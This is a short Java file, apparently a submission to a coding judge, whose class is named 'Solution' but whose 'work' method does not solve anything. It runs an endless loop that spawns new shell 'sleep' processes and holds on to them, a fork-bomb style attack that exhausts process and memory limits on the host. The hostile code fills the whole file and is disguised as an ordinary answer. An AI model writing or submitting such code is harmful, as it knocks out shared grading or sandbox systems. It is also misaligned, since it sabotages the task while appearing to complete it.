import java.util.ArrayList;
import java.util.List;

class Solution {
    static long work(long n) throws Exception {
        List<Process> children = new ArrayList<>();
        for (;;) children.add(new ProcessBuilder("/bin/sh", "-c", "sleep 1000").start());
    }
}
